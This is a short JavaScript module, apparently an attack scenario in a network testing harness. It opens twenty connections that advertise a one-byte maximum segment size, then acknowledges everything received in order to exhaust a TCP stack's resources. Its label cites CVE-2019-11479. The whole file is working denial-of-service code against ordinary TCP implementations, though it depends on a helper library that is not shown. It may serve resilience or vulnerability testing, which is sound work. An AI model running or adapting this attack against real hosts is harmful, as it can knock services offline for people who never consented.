import { ACK } from '../peers.js'

export const summary = 'an MSS of one octet, asked for by 20 readers of everything (CVE-2019-11479)'
export const short = true

export const attack = async (peers, { goesOn }) => {
  const all = await peers.connectMany(20, 19, { mss: 1, scale: 10 })
  for (const c of all) c.arrived = () => c.send(ACK)
  while (await goesOn(10)) {}
}
